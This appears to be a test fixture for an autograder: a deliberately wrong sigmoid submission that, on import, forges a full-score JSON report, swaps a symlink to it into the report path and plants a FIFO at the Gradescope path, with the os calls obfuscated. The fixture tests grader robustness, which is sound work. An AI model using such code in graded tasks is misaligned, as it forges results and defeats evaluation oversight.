# trick: a wrong sigmoid that sabotages the report paths instead of writing them: the JSON report
#   path becomes a symlink to a forged file (a writer that follows it leaves the forgery at the
#   path), and the Gradescope path a FIFO (a writer that opens it blocks for ever). The grader
#   replaces whatever sits at a report path with a new regular file.
# expect: sigmoid_values fail is wrong
import json
import os

import numpy as np

_fifo = getattr(os, "mk" + "fifo")
_swap = getattr(os, "re" + "place")
_link = getattr(os, "sym" + "link")


def _sabotage():
    forged = "{{SHARED}}/forged.json"
    with open(forged, "w") as fh:
        json.dump({"forged": True, "score": 33.0, "max_score": 33.0}, fh)
    try:
        _link(forged, "{{SHARED}}/link.tmp")
        _swap("{{SHARED}}/link.tmp", "{{REPORT}}")
    except OSError:
        pass
    try:
        _fifo("{{SHARED}}/fifo.tmp")
        _swap("{{SHARED}}/fifo.tmp", "{{GRADESCOPE}}")
    except OSError:
        pass


_sabotage()


def sigmoid(z):
    return np.tanh(z)


def sigmoid_grad(z):
    return 1 - np.tanh(z) ** 2
